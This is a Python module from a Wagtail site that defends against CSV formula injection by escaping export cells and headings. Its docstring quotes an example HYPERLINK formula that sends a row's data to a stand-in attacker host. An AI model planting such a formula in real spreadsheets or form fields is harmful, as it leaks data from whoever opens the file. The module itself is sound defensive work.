"""Spreadsheet exports that never hand Excel or LibreOffice a formula
(docs/security.md, "Exports").

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return, which some programs skip first) is run as a formula when the file is
opened: a page titled ``=HYPERLINK("http://evil.example/?"&A1,"Klik")`` in a
report sends the row to another site from the computer of whoever opens it. Such
a text gets a leading apostrophe, which spreadsheets read as "this is text"
(OWASP's advice for CSV injection). Numbers are left alone: a count or an amount
of -5 is a number, not a formula, and must stay one.

Wagtail does not escape its exports (it leaves this to the program that opens
the file), so ``escape_wagtail_exports`` wraps the two methods through which every
Wagtail export writes its cells: reports (site history, aging pages, locked
pages, workflows), listings of snippets and model viewsets, redirects and form
submissions all inherit them from ``SpreadsheetExportMixin``.
"""

from __future__ import annotations

from functools import wraps
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def escape_formula(value: Any) -> Any:
    """``value`` with a leading apostrophe when it is text that a spreadsheet
    would run as a formula; anything else (numbers, dates, None) unchanged.
    Leading whitespace is looked through, since an import may trim it."""
    if (
        isinstance(value, str)
        and value
        and (value.startswith(TRIGGERS) or value.lstrip().startswith(TRIGGERS))
    ):
        return "'" + value
    return value


def escape_row(values) -> list:
    """Every cell of a row for ``csv.writer``, escaped."""
    return [escape_formula(value) for value in values]


def _escaping(method):
    @wraps(method)
    def escaped(*args, **kwargs):
        return escape_formula(method(*args, **kwargs))

    escaped.escapes_formulas = True
    return escaped


def escape_wagtail_exports() -> None:
    """Make every Wagtail CSV/XLSX export escape its cells and headings. Run
    once when the apps are ready (``core.apps``); running it again does
    nothing."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    for name in ("preprocess_field_value", "get_heading"):
        method = getattr(SpreadsheetExportMixin, name)
        if not getattr(method, "escapes_formulas", False):
            setattr(SpreadsheetExportMixin, name, _escaping(method))
